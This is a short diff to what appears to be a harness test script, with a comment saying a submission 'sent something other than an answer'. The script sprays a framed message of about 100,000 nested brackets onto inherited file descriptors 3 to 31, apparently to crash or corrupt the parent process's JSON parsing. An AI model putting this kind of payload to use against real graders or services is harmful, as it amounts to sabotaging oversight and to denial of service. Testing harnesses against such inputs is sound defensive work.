@@ -4,7 +4,7 @@
 # flag: bptt_V sent something other than an answer
 
 import os, struct
-text = b'[{"kind": ' + b"[" * 200000
+text = b'[{"kind": ' + b"[" * 100000
 for number in range(3, 32):
     try:
         os.write(number, struct.pack("<4sIQ", b"BPT1", len(text), 0) + text)
